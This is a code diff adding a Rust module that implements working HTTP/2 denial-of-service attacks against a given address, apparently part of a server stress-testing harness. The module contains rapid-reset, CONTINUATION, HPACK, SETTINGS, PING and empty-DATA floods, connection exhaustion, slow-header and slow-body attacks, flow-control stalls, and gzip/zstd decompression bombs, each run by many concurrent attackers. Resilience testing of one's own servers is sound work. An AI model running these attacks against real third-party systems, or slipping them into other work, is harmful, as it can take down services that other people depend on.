@@ -1,0 +1,271 @@
+//! The attacks, each for as long as it is let: one loop of one attacker, who begins anew when he is
+//! thrown out.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use anyhow::Result;
+use futures_util::future::BoxFuture;
+use tokio::time::{Instant, sleep};
+
+use super::wire::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, Raw, SETTINGS, export,
+    frame, message,
+};
+
+/// What an attacker is given.
+#[derive(Clone)]
+pub(super) struct Target {
+    pub(super) address: String,
+    pub(super) until: Instant,
+    pub(super) gzip_bomb: Arc<[u8]>,
+    pub(super) zstd_bomb: Arc<[u8]>,
+}
+
+impl Target {
+    fn is_on(&self) -> bool {
+        Instant::now() < self.until
+    }
+}
+
+/// One round of an attack, until its connection ends.
+pub(super) type Round = fn(Target) -> BoxFuture<'static, Result<()>>;
+
+/// What is done, and by how many attackers at once.
+pub(super) struct Attack {
+    pub(super) name: &'static str,
+    pub(super) attackers: usize,
+    pub(super) round: Round,
+}
+
+macro_rules! attack {
+    ($name:literal, $attackers:literal, $round:ident) => {
+        Attack {
+            name: $name,
+            attackers: $attackers,
+            round: |target| Box::pin($round(target)),
+        }
+    };
+}
+
+pub(super) fn all() -> Vec<Attack> {
+    vec![
+        attack!("rapid reset", 4, rapid_reset),
+        attack!("CONTINUATION flood", 4, continuations),
+        attack!("HPACK bomb", 4, hpack),
+        attack!("empty DATA flood", 4, empty_data),
+        attack!("SETTINGS flood", 4, settings),
+        attack!("PING flood", 4, pings),
+        attack!("idle connections", 100, idle),
+        attack!("half-open connections", 100, half_open),
+        attack!("slow headers", 500, slow_headers),
+        attack!("slow bodies", 10, slow_bodies),
+        attack!("lengths announced", 100, announced),
+        attack!("answers not taken", 20, untaken),
+        attack!("gzip bombs", 10, gzip_bombs),
+        attack!("zstd bombs", 10, zstd_bombs),
+    ]
+}
+
+/// A request and its end, again and again.
+async fn rapid_reset(target: Target) -> Result<()> {
+    let mut raw = Raw::connect(&target.address).await?;
+    let block = export(None);
+    while target.is_on() {
+        let mut wire = Vec::new();
+        for _ in 0..50 {
+            let stream = raw.stream();
+            wire.extend(frame(HEADERS, END_HEADERS, stream, &block));
+            wire.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
+        }
+        raw.send(&wire).await?;
+        raw.skim();
+    }
+    Ok(())
+}
+
+/// Headers that go on for ever.
+async fn continuations(target: Target) -> Result<()> {
+    let mut raw = Raw::connect(&target.address).await?;
+    let stream = raw.stream();
+    raw.send(&frame(HEADERS, 0, stream, &export(None))).await?;
+    // A header of 100 bytes, in each frame 150 of them.
+    let one = [&[0, 1, b'a', 100][..], &[b'b'; 100]].concat();
+    let more = frame(CONTINUATION, 0, stream, &one.repeat(150));
+    while target.is_on() {
+        raw.send(&more).await?;
+    }
+    Ok(())
+}
+
+/// A header of 4,000 bytes, remembered, and then named in a byte each.
+async fn hpack(target: Target) -> Result<()> {
+    let mut raw = Raw::connect(&target.address).await?;
+    // The length 4000, as an integer with a prefix of seven bits.
+    let mut bomb = [&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e][..], &[b'b'; 4000]].concat();
+    bomb.extend(std::iter::repeat_n(0xbe, 12_000));
+    while target.is_on() {
+        let stream = raw.stream();
+        let block = [export(None), bomb.clone()].concat();
+        raw.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block))
+            .await?;
+        raw.skim();
+    }
+    Ok(())
+}
+
+async fn empty_data(target: Target) -> Result<()> {
+    let mut raw = Raw::connect(&target.address).await?;
+    let stream = raw.stream();
+    raw.send(&frame(HEADERS, END_HEADERS, stream, &export(None)))
+        .await?;
+    repeat(raw, target, &frame(DATA, 0, stream, &[])).await
+}
+
+async fn settings(target: Target) -> Result<()> {
+    let raw = Raw::connect(&target.address).await?;
+    // The initial window, which every stream has to be told.
+    repeat(raw, target, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])).await
+}
+
+async fn pings(target: Target) -> Result<()> {
+    let raw = Raw::connect(&target.address).await?;
+    repeat(raw, target, &frame(PING, 0, 0, &[7; 8])).await
+}
+
+async fn repeat(mut raw: Raw, target: Target, frame: &[u8]) -> Result<()> {
+    let many = frame.repeat(500);
+    while target.is_on() {
+        raw.send(&many).await?;
+        raw.skim();
+    }
+    Ok(())
+}
+
+/// A hundred connections that do nothing.
+async fn idle(target: Target) -> Result<()> {
+    let mut all = Vec::new();
+    for _ in 0..100 {
+        if let Ok(raw) = Raw::connect(&target.address).await {
+            all.push(raw);
+        }
+    }
+    wait(&target).await;
+    Ok(())
+}
+
+/// Connections that never say what they speak.
+async fn half_open(target: Target) -> Result<()> {
+    let mut all = Vec::new();
+    for _ in 0..10 {
+        let mut raw = Raw::silent(&target.address).await?;
+        raw.send(b"PRI * HT").await?;
+        all.push(raw);
+    }
+    wait(&target).await;
+    Ok(())
+}
+
+async fn slow_headers(target: Target) -> Result<()> {
+    let mut raw = Raw::connect(&target.address).await?;
+    let stream = raw.stream();
+    for byte in frame(HEADERS, END_HEADERS, stream, &export(None)) {
+        if target.is_on() {
+            raw.send(&[byte]).await?;
+            pause().await;
+        }
+    }
+    Ok(())
+}
+
+/// A hundred requests, each with a byte now and then.
+async fn slow_bodies(target: Target) -> Result<()> {
+    let mut raw = Raw::connect(&target.address).await?;
+    let streams: Vec<u32> = (0..100).map(|_| raw.stream()).collect();
+    let start = message(false, &[0; 1000]);
+    for stream in &streams {
+        let opening = frame(HEADERS, END_HEADERS, *stream, &export(None));
+        raw.send(&opening).await?;
+    }
+    for byte in start {
+        for stream in &streams {
+            raw.send(&frame(DATA, 0, *stream, &[byte])).await?;
+        }
+        raw.skim();
+        if !target.is_on() {
+            break;
+        }
+        pause().await;
+    }
+    Ok(())
+}
+
+/// A hundred requests of 64 MiB each, of which nothing comes.
+async fn announced(target: Target) -> Result<()> {
+    let mut raw = Raw::connect(&target.address).await?;
+    for _ in 0..100 {
+        let stream = raw.stream();
+        let mut wire = frame(HEADERS, END_HEADERS, stream, &export(None));
+        wire.extend(frame(DATA, 0, stream, &[0, 4, 0, 0, 0]));
+        raw.send(&wire).await?;
+    }
+    wait(&target).await;
+    Ok(())
+}
+
+/// Requests whose answers never find a window.
+async fn untaken(target: Target) -> Result<()> {
+    let mut raw = Raw::with(&target.address, &[0, 4, 0, 0, 0, 0]).await?;
+    while target.is_on() {
+        let mut wire = Vec::new();
+        for _ in 0..100 {
+            let stream = raw.stream();
+            wire.extend(frame(HEADERS, END_HEADERS, stream, &export(None)));
+            wire.extend(frame(DATA, END_STREAM, stream, &message(false, &[])));
+        }
+        raw.send(&wire).await?;
+        pause().await;
+    }
+    Ok(())
+}
+
+async fn gzip_bombs(target: Target) -> Result<()> {
+    let bomb = Arc::clone(&target.gzip_bomb);
+    bombs(target, "gzip", &bomb).await
+}
+
+async fn zstd_bombs(target: Target) -> Result<()> {
+    let bomb = Arc::clone(&target.zstd_bomb);
+    bombs(target, "zstd", &bomb).await
+}
+
+/// Ten of them at once, and again when they are answered.
+async fn bombs(target: Target, encoding: &str, bomb: &[u8]) -> Result<()> {
+    let block = export(Some(encoding));
+    let body = message(true, bomb);
+    while target.is_on() {
+        let mut raw = Raw::connect(&target.address).await?;
+        for _ in 0..10 {
+            let stream = raw.stream();
+            raw.send(&frame(HEADERS, END_HEADERS, stream, &block))
+                .await?;
+            for piece in body.chunks(16 * 1024) {
+                raw.send(&frame(DATA, 0, stream, piece)).await?;
+                raw.skim();
+            }
+            raw.send(&frame(DATA, END_STREAM, stream, &[])).await?;
+        }
+        pause().await;
+        raw.skim();
+    }
+    Ok(())
+}
+
+/// The pace of somebody slow; not a wait for anything.
+async fn pause() {
+    sleep(Duration::from_millis(100)).await;
+}
+
+async fn wait(target: &Target) {
+    tokio::time::sleep_until(target.until).await;
+}
